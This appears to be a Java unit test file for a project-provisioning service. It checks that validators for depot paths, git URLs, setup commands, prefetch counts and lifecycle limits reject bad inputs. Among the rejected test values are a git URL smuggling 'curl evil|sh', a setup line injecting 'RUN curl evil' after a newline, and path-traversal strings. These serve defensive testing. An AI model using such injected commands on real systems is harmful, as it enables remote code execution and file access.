package io.a4c.functions.projects;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.a4c.functions.http.InvalidRequestException;
import org.junit.jupiter.api.Test;

/** The rules of what reaches a p4 or git command line and a rendered setup script. */
class ProjectRulesTest {
  @Test
  void depotPathsAndGitUrlsHaveNoParentSegments() {
    assertThat(ProjectSource.DEPOT_PATH.matcher("//depot/kernel/...").matches()).isTrue();
    assertThat(ProjectSource.DEPOT_PATH.matcher("//depot/kernel/../secret/...").matches())
        .isFalse();
    assertThat(ProjectSource.DEPOT_PATH.matcher("//depot/x/...../../../etc").matches()).isFalse();
    assertThat(ProjectSource.GIT_URL.matcher("https://git.example.com/kernel.git").matches())
        .isTrue();
    assertThat(ProjectSource.GIT_URL.matcher("https://git.example.com/a/../b.git").matches())
        .isFalse();
    assertThat(ProjectSource.GIT_URL.matcher("file:///srv/git/..").matches()).isFalse();
    assertThat(
            ProjectSource.GIT_URL.matcher("https://git.example.com/x.git; curl evil|sh").matches())
        .isFalse();
  }

  @Test
  void aSetupLineIsOnePrintableLineNotEndingInABackslash() {
    assertThat(
            ProjectConfig.SETUP_COMMAND
                .matcher("apt-get install -y vim && echo ok > /etc/motd")
                .matches())
        .isTrue();
    assertThat(ProjectConfig.SETUP_COMMAND.matcher("echo a \\").matches()).isFalse();
    assertThat(ProjectConfig.SETUP_COMMAND.matcher("echo a\nRUN curl evil").matches()).isFalse();
    assertThat(ProjectConfig.SETUP_COMMAND.matcher("x".repeat(1025)).matches()).isFalse();
    assertThat(ProjectConfig.SETUP_COMMAND.matcher("").matches()).isFalse();
  }

  @Test
  void prefetchWantsTwoHoldersUnlessSetFromZeroToAThousandOrAShareOfTheLiveHosts() {
    assertThat(ProjectPrefetch.DEFAULT.holdersWanted(10)).isEqualTo(2);
    assertThat(ProjectPrefetch.ofHosts(0).holdersWanted(10)).isZero();
    assertThat(ProjectPrefetch.ofHosts(1000).holdersWanted(10)).isEqualTo(1000);
    assertThat(new ProjectPrefetch(null, 25).holdersWanted(10)).as("rounded up").isEqualTo(3);
    assertThat(new ProjectPrefetch(null, 100).holdersWanted(7)).isEqualTo(7);
    assertThat(new ProjectPrefetch(null, 1).holdersWanted(1)).isEqualTo(1);
    assertThat(new ProjectPrefetch(5, 25).holdersWanted(10)).as("the larger").isEqualTo(5);
    assertThat(new ProjectPrefetch(1, 50).holdersWanted(10)).isEqualTo(5);
    for (int bad : new int[] {-1, 1001}) {
      assertThatThrownBy(() -> ProjectPrefetch.ofHosts(bad))
          .isInstanceOfSatisfying(
              InvalidRequestException.class,
              e -> assertThat(e.getMessage()).contains("prefetch.hosts"));
    }
    for (int bad : new int[] {0, 101, -5}) {
      assertThatThrownBy(() -> new ProjectPrefetch(null, bad))
          .isInstanceOfSatisfying(
              InvalidRequestException.class,
              e -> assertThat(e.getMessage()).contains("prefetch.percent"));
    }
  }

  @Test
  void lifecycleTakesUpToAWeekOfIdleMinutesAndTenYearsOfStoppedDays() {
    var longest = new ProjectLifecycle(10080, 3650);

    assertThat(longest.idleStopMinutesOr(0)).isEqualTo(10080);
    assertThat(longest.deleteAfterStoppedDaysOrNever()).isEqualTo(3650);
    for (int bad : new int[] {-1, 10081, Integer.MAX_VALUE}) {
      assertThatThrownBy(() -> new ProjectLifecycle(bad, null))
          .isInstanceOfSatisfying(
              InvalidRequestException.class,
              e -> assertThat(e.field()).isEqualTo("lifecycle.idleStopMinutes"));
    }
    for (int bad : new int[] {-1, 3651, Integer.MAX_VALUE}) {
      assertThatThrownBy(() -> new ProjectLifecycle(null, bad))
          .isInstanceOfSatisfying(
              InvalidRequestException.class,
              e -> assertThat(e.field()).isEqualTo("lifecycle.deleteAfterStoppedDays"));
    }
  }
}
